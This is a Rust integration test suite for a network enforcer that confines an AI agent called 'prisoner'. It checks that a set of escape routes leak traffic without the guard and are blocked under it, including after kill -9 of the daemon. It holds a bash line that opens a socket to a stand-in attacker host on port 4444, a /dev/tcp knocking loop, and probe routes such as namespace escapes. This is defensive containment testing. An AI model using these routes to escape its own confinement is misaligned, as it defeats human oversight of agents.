//! Every way out, in steps: 1 with the guard off it leaks, 2 as an agent it does not, 3 nor does it
//! for a minute after all our processes were killed.
//!
//! The packet counter outside is the judge; a probe's own opinion counts besides.
#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "tests")]

use std::process::Command;
use std::time::Duration;

use enforcer_probe::{Needs, Open, ROUTES, Route, Sign};
use enforcer_tests::packet::Packet;
use enforcer_tests::probes::{JUDGES, judge, places};
use enforcer_tests::world::{self, Output, Running, UNGUARDED_UID, World, command, plan};

const ATTEMPT: Duration = Duration::from_secs(30);
/// All of them, one after the other, on a machine that is busy compiling.
const ALL: Duration = Duration::from_secs(120);
/// A probe that sends is seen at once; one that joins a group reports within a second.
const LEAK: Duration = Duration::from_millis(500);

/// What a probe ends with when this kernel has no such thing.
const ABSENT: i32 = 4;

const POLICY: &str = "\
version: 1
agent: prisoner
allow:
  - name: api
    host: api.example.test
    methods: [GET]
    paths: [\"/v1/**\"]
";

#[test]
fn with_the_guard_off_every_way_leaks() {
    let world = World::new().unwrap();
    let victim = world.victim(UNGUARDED_UID).unwrap();
    pin_something(&world);
    let mut wrong = Vec::new();
    for probe in ROUTES {
        let mark = world.sniffer.position();
        let mut line = probe_line(&world, probe, victim);
        let other = other_agent(&world, probe);
        let outsider = outsider(&world, probe);
        let command = match probe.open {
            Open::LeaksAsRoot => world.on_host(&with_fds(probe.needs, &mut line)),
            Open::Leaks | Open::Structural(_) => world.unguarded(&with_fds(probe.needs, &mut line)),
        };
        let output = command::run(command, ATTEMPT).unwrap();
        end(other);
        end(outsider);
        let leaked = match judge(probe.name) {
            Some(wanted) => world.sniffer.saw(mark, LEAK, wanted),
            None => output.ok(),
        };
        println!("{:<18} {}", probe.name, output.stdout.trim());
        if probe.optional && output.code == Some(ABSENT) {
            continue;
        }
        match probe.open {
            Open::Structural(_) if leaked => {
                wrong.push(format!("{}: leaks, the table says it cannot", probe.name))
            }
            Open::Leaks | Open::LeaksAsRoot if !leaked => {
                let seen: Vec<_> = world.sniffer.since(mark).iter().map(ToString::to_string).collect();
                wrong.push(format!(
                    "{}: does not leak without a guard, so it proves nothing: {output}\nseen: {seen:?}",
                    probe.name
                ));
            }
            _ => {}
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[test]
fn as_an_agent_nothing_gets_out() {
    nothing_gets_out(&[], |uid| uid != 0);
}

/// Root with a container engine's capabilities, in a user namespace: to the host it is the agent's own id.
#[test]
fn as_root_inside_nothing_gets_out() {
    nothing_gets_out(&["--root"], |uid| uid == 0);
}

fn nothing_gets_out(flags: &[&str], expected: fn(u32) -> bool) {
    let world = World::new().unwrap();
    let daemon =
        world.daemon(&[("prisoner", POLICY), ("other", &POLICY.replace("prisoner", "other"))]).unwrap();
    let who = run_as_agent(&daemon, flags, Needs::Nothing, &["id".to_owned(), "-u".to_owned()]);
    assert!(who.stdout.trim().parse().is_ok_and(expected), "{who}");
    // An ordinary user of the host: nobody but the agent has the agent's own id.
    let victim = world.victim(UNGUARDED_UID).unwrap();
    pin_something(&world);
    let mut wrong = Vec::new();
    let (together, apart): (Vec<&Route>, Vec<&Route>) =
        ROUTES.iter().partition(|route| route.needs == Needs::Nothing);

    let mark = world.sniffer.mark();
    let known = words(&world, victim).join(" ");
    let lines: String = together.iter().map(|route| format!("{} {known}\n", route.name)).collect();
    let line = [world.bin("probe").display().to_string(), "each".to_owned()];
    let command = as_agent(&daemon, flags, Needs::Nothing, &line);
    let output = command::run_with_input(command, Some(lines.as_bytes()), ALL).unwrap();
    for route in together {
        let told = output.stdout.lines().find_map(|l| l.strip_prefix(&format!("{}\t", route.name)));
        println!("{:<18} {}", route.name, told.unwrap_or("?"));
        let code = told.and_then(|told| told.split('\t').next()).and_then(|code| code.parse().ok());
        if !held(route, code) {
            wrong.push(format!("{}: {told:?}\n{output}", route.name));
        }
    }
    left(&world, mark, &mut wrong, "all that need nothing");

    for route in apart {
        let other = (route.needs == Needs::OtherAgent).then(|| {
            let served = daemon
                .spawn_agent("other", &[world.bin("probe").as_os_str(), "serve".as_ref(), "3000".as_ref()]);
            std::thread::sleep(Duration::from_secs(1));
            served.unwrap()
        });
        let mark = world.sniffer.mark();
        let outsider = outsider(&world, route);
        let output = run_as_agent(&daemon, flags, route.needs, &probe_line(&world, route, victim));
        end(other);
        end(outsider);
        println!("{:<18} {}", route.name, output.stdout.trim());
        left(&world, mark, &mut wrong, route.name);
        // The launcher itself may refuse what it was given.
        let turned_away = route.needs == Needs::InheritedStdin && output.code == Some(125);
        if !held(route, output.code) && !turned_away {
            wrong.push(format!("{}: {output}", route.name));
        }
    }
    assert!(wrong.is_empty(), "{}\n--- daemon\n{}", wrong.join("\n\n"), daemon.log_text());
}

/// 1 and 3 are the attempt's own failure; anything else and it did not run, which proves nothing.
fn held(route: &Route, code: Option<i32>) -> bool {
    matches!(code, Some(1 | 3)) || (route.optional && code == Some(ABSENT))
}

fn left(world: &World, mark: usize, wrong: &mut Vec<String>, what: &str) {
    let packets: Vec<Packet> = world.sniffer.since(mark).into_iter().filter(|p| !says_no(p)).collect();
    if !packets.is_empty() {
        let seen: Vec<_> = packets.iter().map(ToString::to_string).collect();
        wrong.push(format!("{what}: {} packets left: {seen:?}", packets.len()));
    }
}

/// The weaker mode: the agent shares its user with processes outside.
#[test]
fn as_a_user_of_the_host_its_other_processes_are_out_of_reach() {
    let world = World::new().unwrap();
    let daemon = world.daemon(&[("prisoner", POLICY)]).unwrap();
    let name = "nobody";
    let uid: u32 = command::must(&["id", "-u", name]).unwrap().trim().parse().unwrap();
    let victim = world.victim(uid).unwrap();
    for probe in ROUTES.iter().filter(|p| p.needs == Needs::Victim) {
        let line = probe_line(&world, probe, victim);
        let id = uid.to_string();
        let mut off = world.on_host(&["setpriv", "--reuid", &id, "--regid", &id, "--clear-groups", "--"]);
        off.args(&line);
        let off = command::run(off, ATTEMPT).unwrap();
        assert!(off.ok(), "{} proves nothing: {off}", probe.name);
        let mark = world.sniffer.mark();
        let mut on = daemon.tool(&["run", "--user", name, "prisoner", "--"]);
        on.args(&line).current_dir("/tmp");
        let on = command::run(on, ATTEMPT).unwrap();
        println!("{:<18} {}", probe.name, on.stdout.trim());
        assert_eq!(on.code, Some(1), "{on}");
        assert_eq!(world.sniffer.since(mark).len(), 0, "{on}");
    }
}

#[test]
fn for_a_minute_after_kill_9_nothing_gets_out() {
    let world = World::new().unwrap();
    let mut daemon = world.daemon(&[("prisoner", POLICY)]).unwrap();
    // Packets only, and nothing that would change the prober itself.
    let names: Vec<&str> = ROUTES
        .iter()
        .filter(|p| p.needs == Needs::Nothing && p.sign == Sign::Packet)
        .filter(|p| !matches!(p.name, "setns-host" | "unshare-netns"))
        .map(|p| p.name)
        .collect();
    let probe = world.bin("probe").display().to_string();
    let mut line = vec![probe, "loop".to_owned(), "62".to_owned(), names.join(",")];
    line.extend(words(&world, 0));
    let agent = daemon.spawn_agent("prisoner", &line).unwrap();
    let slice = format!("/{}", daemon.settings.managed_root);
    wait_until("the agent runs", || agents_in(&world, &slice) > 0);

    let mark = world.sniffer.mark();
    let killed = daemon.kill9().unwrap();
    assert!(killed.len() >= 2, "keeper and worker: {killed:?}");
    for second in 0..60 {
        std::thread::sleep(Duration::from_secs(1));
        if second == 0 && agents_in(&world, &slice) == 0 {
            panic!("the agent must outlive the daemon, shut in: {}", agent.finish(ATTEMPT).unwrap());
        }
        if second == 30 {
            // Now the rest of us as well: the client and whatever stands above the agent.
            daemon.kill9_everything().unwrap();
        }
        let packets = world.sniffer.since(mark);
        let seen: Vec<_> = packets.iter().map(ToString::to_string).collect();
        assert!(packets.is_empty(), "{} packets left in second {second}: {seen:?}", packets.len());
    }
    drop(agent);
}

#[test]
fn every_way_has_its_judge_and_its_line_in_the_ledger() {
    let by_packet: Vec<&str> = ROUTES.iter().filter(|r| r.sign == Sign::Packet).map(|r| r.name).collect();
    assert_eq!(JUDGES.iter().map(|(name, _)| *name).collect::<Vec<_>>(), by_packet);
    let ledger = include_str!("../../enforcer/docs/bypasses.md");
    let missing: Vec<_> =
        ROUTES.iter().map(|r| r.name).filter(|name| !ledger.contains(&format!("`{name}`"))).collect();
    assert!(missing.is_empty(), "bypasses.md says nothing about {missing:?}");
}

/// `probe NAME KEY=VALUE…`
fn probe_line(world: &World, probe: &Route, victim: u32) -> Vec<String> {
    let mut line = vec![world.bin("probe").display().to_string(), probe.name.to_owned()];
    line.extend(words(world, victim));
    line
}

fn words(world: &World, victim: u32) -> Vec<String> {
    let mut words = places(world);
    words.extend([
        format!("cgroup={}", cgroup_root().display()),
        format!("pins={}", pins(&world.dir.join("bpf")).join(",")),
        format!("deputies={}", world.deputies().display()),
        format!("victim={victim}"),
    ]);
    words
}

fn cgroup_root() -> std::path::PathBuf {
    world::cgroup_root().unwrap()
}

/// The shell opens the sockets that a careless caller would leave open.
fn with_fds(needs: Needs, line: &mut Vec<String>) -> Vec<String> {
    let number = match needs {
        Needs::InheritedFd => 7,
        Needs::InheritedStdin => 0,
        Needs::Nothing | Needs::Victim | Needs::OtherAgent | Needs::Outsider => return std::mem::take(line),
    };
    let open = format!("exec {number}<>/dev/udp/{}/4444; exec \"$@\"", plan::ATTACKER_V4);
    let mut words = vec!["bash".to_owned(), "-c".to_owned(), open, "open".to_owned()];
    words.append(line);
    words
}

fn run_as_agent(daemon: &world::Daemon<'_>, flags: &[&str], needs: Needs, line: &[String]) -> Output {
    command::run(as_agent(daemon, flags, needs, line), ALL).unwrap()
}

fn as_agent(daemon: &world::Daemon<'_>, flags: &[&str], needs: Needs, line: &[String]) -> Command {
    let mut words = vec!["run"];
    words.extend(flags);
    words.extend(["prisoner", "--"]);
    let mut inner = daemon.tool(&words);
    inner.args(line);
    let mut typed: Vec<String> = inner.get_args().map(|w| w.to_string_lossy().into_owned()).collect();
    // `nsenter --net=… -- TOOL …`: the shell goes between, so that the tool inherits what it opens.
    let tool = typed.iter().position(|w| w == "--").unwrap() + 1;
    let mut rest = typed.split_off(tool);
    let mut command = Command::new(inner.get_program());
    command.args(&typed).args(with_fds(needs, &mut rest)).current_dir("/tmp");
    command.env_clear().envs(inner.get_envs().filter_map(|(key, value)| Some((key, value?))));
    command
}

/// With the guard off, another agent is another process of the host.
fn other_agent(world: &World, probe: &Route) -> Option<Running> {
    (probe.needs == Needs::OtherAgent).then(|| {
        let line = [world.bin("probe").display().to_string(), "serve".to_owned(), "3000".to_owned()];
        let served = Running::spawn(world.unguarded(&line), None).unwrap();
        std::thread::sleep(Duration::from_millis(300));
        served
    })
}

/// Somebody outside who knocks at the host's door until the end.
fn outsider(world: &World, probe: &Route) -> Option<Running> {
    (probe.needs == Needs::Outsider).then(|| {
        let knock = format!(
            "while :; do (exec 3<>/dev/tcp/{}/{}) 2>/dev/null; sleep 0.1; done",
            plan::HOST_V4,
            plan::INBOUND_PORT
        );
        Running::spawn(world.outside(&["bash", "-c", &knock]), None).unwrap()
    })
}

/// The host's own answer to one who knocks where nobody listens: a reset from that port.
fn says_no(packet: &Packet) -> bool {
    packet.tcp_reset_from() == Some(plan::INBOUND_PORT)
}

fn end(running: Option<Running>) {
    if let Some(running) = running {
        running.abandon().unwrap();
    }
}

/// A pin of root's, so that there is one to open even where no daemon runs.
fn pin_something(world: &World) {
    let pin = world.dir.join("bpf/decoy");
    let probe = world.bin("probe").display().to_string();
    let output =
        command::run(command::command(&[probe, "pin".to_owned(), pin.display().to_string()]), ATTEMPT)
            .unwrap();
    assert!(output.ok(), "{output}");
}

/// Every pin below a directory.
fn pins(dir: &std::path::Path) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        if entry.file_type().unwrap().is_dir() {
            found.extend(pins(&entry.path()));
        } else {
            found.push(entry.path().display().to_string());
        }
    }
    found
}

fn agents_in(world: &World, slice: &str) -> usize {
    let bin = world.bin("probe");
    let in_slice = |pid: i32| {
        std::fs::read_to_string(format!("/proc/{pid}/cgroup")).is_ok_and(|text| text.contains(slice))
    };
    let runs_probe = |pid: i32| std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| exe == bin);
    let all = world::processes(&world.name).into_iter();
    all.filter(|(pid, _)| runs_probe(*pid) && in_slice(*pid)).count()
}

fn wait_until(what: &str, done: impl Fn() -> bool) {
    for _ in 0..500 {
        if done() {
            return;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("waited 10 s until {what}");
}
